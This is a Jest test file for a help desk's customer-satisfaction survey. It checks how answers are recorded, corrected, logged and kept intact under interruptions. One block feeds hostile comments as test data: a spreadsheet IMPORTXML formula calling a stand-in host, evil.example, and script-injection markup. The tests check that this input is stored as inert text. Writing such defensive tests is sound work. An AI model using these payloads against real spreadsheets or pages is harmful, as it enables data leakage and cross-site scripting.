import { opening, reasonOf } from './customerLink';
import { close, columnOf, owner, tickets } from './desk';
import { answer, host, link, surveyed, tasks, ticket } from './surveyed';
import { log, pass, wang } from './team';

surveyed();

describe('D8: an answer lands in the ticket', () => {
  test('score, comment, confirmation and the call-back that it spares, with a log line', () => {
    expect(answer(5, '很快解决了')).toMatchObject({ ok: true, value: { score: 5, comment: '很快解决了' } });
    expect(ticket()).toMatchObject({
      客户满意度: '非常满意',
      客户评价: '很快解决了',
      客户确认时间: '2024-05-20 09:00',
      回访时间: '2024-05-20 09:00',
      状态: '待验证',
    });
    expect(log(host)).toContain('满意度：非常满意（5 分）：“很快解决了”（客户经邮件链接评价）');
  });

  test('the same answer again changes nothing', () => {
    answer(5, '很快解决了');
    const before = log(host).length;
    expect(reasonOf(answer(5, '很快解决了'))).toBe('done');
    expect(log(host)).toHaveLength(before);
  });

  test('it is corrected within the window; the page shows what was answered', () => {
    answer(3);
    expect(opening(host, `s=${link}`)).toMatchObject({ page: 'survey', survey: { ok: true, value: { score: 3 } } });
    answer(4, '后来好了');
    expect(ticket()).toMatchObject({ 客户满意度: '满意', 客户评价: '后来好了' });
    expect(log(host).filter((line) => line.includes('更正，原为“一般”'))).toHaveLength(1);
  });

  test("… also when the desk's language was changed in between", () => {
    answer(1, '没修好');
    const row = host.displayValues('设置').findIndex(([name]) => name === '语言');
    host.person(owner).type('设置', row, 1, 'en');
    pass(host, 10);
    expect(reasonOf(answer(4, '后来好了'))).toBe('done');
    expect(ticket()).toMatchObject({ 客户评价: '后来好了' });
    expect(log(host).slice(-1)).toEqual([expect.stringMatching(/^Satisfaction：/)]);
  });

  test('a row that people sorted meanwhile is answered into where it stands', () => {
    close(host, 1);
    host.person(wang).type('工单', 2, columnOf(host, 'customerName'), '李娜');
    host.plan({
      kind: 'interleave',
      at: 4,
      act: () => host.person(wang).sort('工单', columnOf(host, 'number'), false),
    });
    const first = answer(5);
    if (!first.ok) expect(first.reason).toBe('busy');
    expect(reasonOf(answer(5))).toBe('done');
    const rated = tickets(host).filter((row) => row.客户满意度 === '非常满意');
    expect(rated.map((row) => row.工单编号)).toEqual(['20240520001']);
  });

  test.each([5, 7, 8, 9])('killed at service call %i, it is written whole or not at all', (call) => {
    host.plan({ kind: 'kill', at: call });
    host.webCall('answerSurvey', [{ link, score: 1, comment: '没修好' }], null);
    const isWritten = ticket().客户满意度 !== undefined;
    expect(tasks().length).toBe(isWritten ? 1 : 0);
    expect(ticket().状态).toBe(isWritten ? '处理中' : '待验证');
    expect(reasonOf(answer(1, '没修好'))).toBe('done');
    expect(ticket()).toMatchObject({ 客户满意度: '非常不满意', 状态: '处理中' });
    expect(tasks()).toHaveLength(1);
  });

  test('while the desk is held the customer is asked to try again, and nothing is written', () => {
    let busy = '';
    host.plan({
      kind: 'interleave',
      at: 5,
      act: () => {
        busy = reasonOf(answer(5));
      },
    });
    host.run('checkDeadlines');
    expect(busy).toBe('busy');
    expect(ticket().客户满意度).toBeUndefined();
  });
});

describe('customers write what they like; it is data', () => {
  test.each([
    ['a formula', '=IMPORTXML("http://evil.example","//a")', '=IMPORTXML("http://evil.example","//a")'],
    ['markup', '</script><img src=x onerror=alert(1)>', '</script><img src=x onerror=alert(1)>'],
    ['control and direction marks', 'a\u0000b\u202Ec\u200Fd\u0007', 'abcd'],
    ['emoji', '👍🏽 谢谢 👨‍👩‍👧', '👍🏽 谢谢 👨‍👩‍👧'],
    ['right to left', 'شكرا لكم', 'شكرا لكم'],
  ])('%s', (_, comment, stored) => {
    expect(reasonOf(answer(5, comment))).toBe('done');
    expect(ticket().客户评价).toBe(stored);
    const shown = opening(host, `s=${link}`);
    expect(shown).toMatchObject({ survey: { value: { comment: stored } } });
  });

  test('5,000 lines are cut', () => {
    answer(5, 'line\n'.repeat(5000));
    const stored = ticket().客户评价 ?? '';
    expect(stored.split('\n').length).toBeLessThanOrEqual(60);
    expect(stored.endsWith('…')).toBe(true);
  });

  test('markup in an answer ends no element of the page', () => {
    answer(5, '</script><script>alert(1)</script>');
    const page = host.webRequest({ method: 'GET', queryString: `s=${link}`, user: null });
    if (!page.ok || page.content.kind !== 'page') throw new Error('no page');
    expect(page.content.html).not.toContain('<script>alert(1)');
  });
});
